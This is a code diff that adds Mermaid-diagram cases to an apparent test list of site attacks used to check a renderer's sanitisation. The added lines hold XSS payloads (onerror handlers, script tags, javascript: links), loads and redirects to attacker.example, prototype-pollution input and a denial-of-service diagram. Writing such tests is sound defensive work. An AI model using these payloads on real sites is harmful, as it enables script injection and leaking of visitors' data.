@@ -7,6 +7,7 @@ const mdx = (name: string, text: string, imports?: Record<string, string>): Site
   path: "attack.mdx",
   ...(imports ? { imports } : {}),
 });
+const diagram = (name: string, text: string): SiteAttack => md(name, `\`\`\`mermaid\n${text}\n\`\`\``);
 const md = (name: string, text: string): SiteAttack => ({ name, text, path: "attack.md" });
 
 /** What strangers might write. Every attack sets `window.pwned`, or loads from `attacker.example`, if it works. */
@@ -227,4 +228,48 @@ export const SITE_ATTACKS: SiteAttack[] = [
     "footnote",
     "[^<img src=x onerror=window.pwned=1>]\n\n[^<img src=x onerror=window.pwned=1>]: <script>window.pwned=1</script>",
   ),
+  // Diagrams, which readers' browsers draw
+  diagram("diagram with a callback", "graph LR\nA-->B\nclick A call alert(1)\nclick B alert"),
+  diagram(
+    "diagram with addresses that run",
+    'graph LR\nA-->B\nclick A "javascript:window.pwned=1"\nclick B href "data:text/html,x" _top',
+  ),
+  diagram(
+    "diagram with HTML as labels",
+    'graph LR\nA["<img src=x onerror=window.pwned=1>"]-->B["<script>window.pwned=1</script>"]-->C["<svg onload=window.pwned=1>"]',
+  ),
+  diagram(
+    "diagram with a page as label",
+    "graph LR\nA[\"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><meta http-equiv=refresh content='0;url=https://attacker.example/'><style>@import 'https://attacker.example/x'</style><form action='https://attacker.example/'><input autofocus onfocus='window.pwned=1'></form>\"]",
+  ),
+  diagram(
+    "diagram that sets its own security",
+    '%%{init: {"securityLevel": "loose", "secure": [], "theme": "base", "htmlLabels": true, "themeCSS": "* { background: url(https://attacker.example/x) }", "fontFamily": "x; } </style><img src=x onerror=window.pwned=1>"}}%%\ngraph LR\nA["<img src=x onerror=window.pwned=1>"]\nclick A call alert(1)',
+  ),
+  diagram(
+    "diagram with frontmatter",
+    "---\ntitle: <img src=x onerror=window.pwned=1>\nconfig:\n  securityLevel: loose\n  themeVariables:\n    primaryColor: 'red; } </style><img src=x onerror=window.pwned=1>'\n---\ngraph LR\nA-->B",
+  ),
+  diagram("diagram with pictures of others", 'graph LR\nA@{ img: "https://attacker.example/x.png", label: "x" }-->B'),
+  diagram(
+    "diagram with links of participants",
+    'sequenceDiagram\nparticipant A\nlink A: x @ javascript:window.pwned=1\nlinks A: {"y": "https://attacker.example/"}\nA->>A: <img src=x onerror=window.pwned=1>',
+  ),
+  diagram(
+    "diagram with tasks that run",
+    'gantt\ndateFormat YYYY-MM-DD\nsection <img src=x onerror=window.pwned=1>\nT :a1, 2024-01-01, 3d\nclick a1 href "javascript:window.pwned=1"',
+  ),
+  diagram(
+    "diagram that changes prototypes",
+    '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "themeVariables": {"__proto__": {"polluted": 1}}}}%%\ngraph LR\n__proto__-->constructor',
+  ),
+  diagram(
+    "diagram that ends its document",
+    'graph LR\nA["</script></body></html><script>window.pwned=1</script>"]\n<!-- <script>',
+  ),
+  diagram(
+    "diagram of a great many nodes",
+    `graph LR\n${Array.from({ length: 800 }, (_, at) => `a${at}-->b${at}`).join("\n")}`,
+  ),
+  mdx("diagram by a property", '<Mermaid chart={"graph LR\\nA[\\"<img src=x onerror=window.pwned=1>\\"]"} />'),
 ];
